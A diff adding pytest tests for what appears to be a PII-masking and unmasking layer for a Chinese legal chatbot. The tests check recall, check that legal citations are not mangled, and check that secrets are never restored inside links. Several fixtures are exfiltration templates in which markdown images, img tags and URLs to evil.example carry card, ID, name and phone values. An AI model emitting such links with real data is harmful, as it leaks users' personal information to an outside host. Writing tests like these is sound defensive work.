@@ -210,3 +210,107 @@ def test_slow_resolution_is_cut_short_and_counts_as_remote(monkeypatch):
         assert _time.monotonic() - started < 1.0
     finally:
         endpoint.resolve.cache_clear()
+
+
+# -- masking recall on the written PII set, and no damage to legal text (finding 7) --------------
+from pii_report import load_cases, masked_share, real_texts, recall  # noqa: E402
+
+
+def test_pii_set_is_large_enough_and_its_spans_are_exact():
+    items = load_cases()
+    assert len(items) >= 80 and len({i["id"] for i in items}) == len(items)
+    for item in items:
+        for span in item["spans"]:
+            assert item["text"][span["start"] : span["end"]] == span["value"], item["id"]
+
+
+@pytest.mark.parametrize("split", ["dev", "fresh", None])
+def test_recall_on_the_pii_set(split):
+    total, found, misses = recall(load_cases(split))
+    assert found["numbers"] / total["numbers"] >= 0.95, misses
+    assert found["names"] / total["names"] >= 0.8, misses
+    assert found["addresses"] / total["addresses"] >= 0.8, misses
+
+
+def test_negatives_in_the_set_are_untouched():
+    clean = [i["text"] for i in load_cases() if not i["spans"]]
+    assert len(clean) >= 15 and masked_share(clean) == (0, [])
+
+
+@pytest.mark.parametrize("name, most", [("messages_dev.jsonl", 1), ("stard_dev.jsonl", 3)])
+def test_real_messages_and_legal_questions_are_rarely_masked(name, most):
+    texts = real_texts(name)
+    if not texts:
+        pytest.skip("eval-real not found (set YUQI_SHARED_DIR or put shared/ beside the clone)")
+    assert masked_share(texts)[0] <= most
+
+
+@pytest.mark.parametrize("text, value", [
+    ("电话１３９１２３４５６７８", "１３９１２３４５６７８"),
+    ("身份证110101 19900307 1234，", "110101 19900307 1234"),
+    ("卡号6222-0212-3456-7890-123", "6222-0212-3456-7890-123"),
+    ("卡号６２１７　０００１　２３４５　６７８９。", "６２１７　０００１　２３４５　６７８９"),
+    ("号码139.1234.5678", "139.1234.5678"),
+    ("通知你的朋友李强，他欠的钱再不还就去他单位", "李强"),
+    ("已派人前往四川省成都市武侯区桂溪街道天府大道北段1700号", "四川省成都市武侯区桂溪街道天府大道北段1700号"),
+])
+def test_issue_examples_are_masked_whole(text, value):
+    masked, vault = mask(text)
+    assert value not in masked and len(vault) == 1
+    assert unmask(masked, vault) == text
+
+
+@pytest.mark.parametrize("text", [
+    "（2024）京0105民初123号", "(2025)沪0115执4567号", "第一百零三条", "罚息3,000元，合计12,345.67元",
+    "2024年12月5日到庭", "北京市朝阳区人民法院", "上海市浦东新区市场监督管理局", "银保监发〔2018〕45号",
+    "国务院令第668号", "邻居擅自封锁小区通道", "农村集体经济组织内村民", "当事人陈述", "被执行人高消费", "找房东修",
+    "订单号20261123000123", "年利率24%", "电话费1.5元", "第2条第3款", "户籍所在地法院立案",
+])
+def test_legal_text_is_not_mangled(text):
+    assert mask(text)[0] == text
+
+
+# -- unmask restores only plain text, never a link or image target (finding 1) ------------------
+
+@pytest.mark.parametrize("template", [
+    "![核验](http://evil.example/check.png?id={id}&card={card}&name={name})",
+    "[点此核验](https://evil.example/verify?u={name})",
+    "[点此核验](//evil.example/{id})",
+    '![x](http://evil.example/a.png "{name}")',
+    '<img src="http://evil.example/t.png?p={phone}">',
+    "<img\nsrc=http://evil.example/t.png?p={phone}>",
+    "<a href='https://evil.example/?c={card}'>核验</a>",
+    "<https://evil.example/?id={id}>",
+    "请访问 https://evil.example/pay?card={card} 完成核验",
+    "请访问https://evil.example/x/{name}核验",
+    "evil.example/pay?card={card}",
+    "www.evil.example/{id}",
+    "[1]: http://evil.example/{id}",
+    "[1]: //evil.example/{name}",
+    "mailto:{name}@evil.example",
+])
+def test_unmask_never_restores_inside_links_images_or_tags(template):
+    _, vault = mask(f"户名：{NAME_}，身份证{ID_X}，卡号{CARD}，手机13800138000")
+    placeholders = {"name": "〔姓名1〕", "id": "〔身份证1〕", "card": "〔银行卡1〕", "phone": "〔手机号1〕"}
+    answer = template.format(**placeholders)
+    shown = unmask(answer, vault)
+    for secret in (NAME_, ID_X, CARD, "13800138000"):
+        assert secret not in shown
+    streamed = Unmasker(vault)
+    pieces = [streamed.feed(answer[i : i + 3]) for i in range(0, len(answer), 3)] + [streamed.flush()]
+    assert "".join(pieces) == shown
+
+
+NAME_ = "李四"
+
+
+@pytest.mark.parametrize("answer, expected", [
+    ("〔姓名1〕您好，[核验](https://evil.example/?n=〔姓名1〕) 之后〔姓名1〕仍是您。",
+     "李四您好，[核验](https://evil.example/?n=〔姓名1〕) 之后李四仍是您。"),
+    ("[〔姓名1〕](https://www.12368.gov.cn)", "[李四](https://www.12368.gov.cn)"),
+    ("第一行 http://x.example/?a=〔姓名1〕\n第二行〔姓名1〕", "第一行 http://x.example/?a=〔姓名1〕\n第二行李四"),
+    ("依据[1](见下)，〔姓名1〕应当…", "依据[1](见下)，李四应当…"),
+])
+def test_plain_text_around_links_is_still_restored(answer, expected):
+    _, vault = mask(f"户名：{NAME_}")
+    assert unmask(answer, vault) == expected
